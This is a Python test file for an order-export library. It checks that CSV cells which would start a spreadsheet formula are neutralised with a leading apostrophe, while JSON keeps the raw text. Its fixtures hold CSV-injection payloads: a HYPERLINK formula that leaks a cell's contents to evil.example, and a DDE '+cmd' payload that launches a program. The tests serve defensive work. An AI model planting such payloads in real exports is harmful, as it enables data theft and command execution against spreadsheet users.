"""CSV order files open safely in a spreadsheet: a text cell that would start a formula
gets a leading ``'`` (OWASP's advice on CSV injection), numbers stay numbers (issue 19)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from stockbridge.connectors.feed.order_files import csv_text, render
from stockbridge.domain.model import OrderLine, WebOrder, WebOrderStatus

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for a discount")'


def order(**changes: object) -> WebOrder:
    fields: dict[str, object] = {
        "web_id": "1001",
        "number": "1001",
        "status": WebOrderStatus.OPEN,
        "modified_at": datetime(2024, 5, 1, tzinfo=UTC),
        "placed_at": datetime(2024, 5, 1, tzinfo=UTC),
        "lines": (
            OrderLine("HAT-1", 2, Decimal("12.50"), HYPERLINK),
            OrderLine("@SUM(1+1)", -1, Decimal("-3.25"), "+cmd|' /C calc'!A0"),
            OrderLine("SOCK", 1, Decimal("4.00"), "Warm socks - wool"),
        ),
        "total": Decimal("-0.75"),
        "customer_email": f"{HYPERLINK}@evil.example",
    }
    fields.update(changes)
    return WebOrder(**fields)  # type: ignore[arg-type]


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_text_cells_that_start_a_formula_are_neutralised() -> None:
    lines = rows(render(order(number="-1001"), "csv", "key"))

    assert [r["name"] for r in lines] == [
        f"'{HYPERLINK}",
        "'+cmd|' /C calc'!A0",
        "Warm socks - wool",
    ]
    assert [r["sku"] for r in lines] == ["HAT-1", "'@SUM(1+1)", "SOCK"]
    assert {r["order_number"] for r in lines} == {"'-1001"}


def test_negative_numbers_stay_numbers() -> None:
    lines = rows(render(order(), "csv", "key"))

    assert {r["total"] for r in lines} == {"-0.75"}
    assert [r["quantity"] for r in lines] == ["2", "-1", "1"]
    assert [r["unit_price"] for r in lines] == ["12.50", "-3.25", "4.00"]


def test_json_order_files_keep_the_text_as_it_is() -> None:
    """JSON is not opened by spreadsheets: the importer gets the customer's own text."""
    document = json.loads(render(order(), "json", "key"))

    assert document["lines"][0]["name"] == HYPERLINK
    assert document["customer_email"] == f"{HYPERLINK}@evil.example"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (f"{HYPERLINK}@evil.example", f"'{HYPERLINK}@evil.example"),  # an email
        ("+1@shop.example", "'+1@shop.example"),
        ("-jane@shop.example", "'-jane@shop.example"),
        ("@jane", "'@jane"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("jane@shop.example", "jane@shop.example"),
        ("Warm socks - wool", "Warm socks - wool"),
        ("", ""),
    ],
)
def test_the_cell_rule(value: str, cell: str) -> None:
    assert csv_text(value) == cell
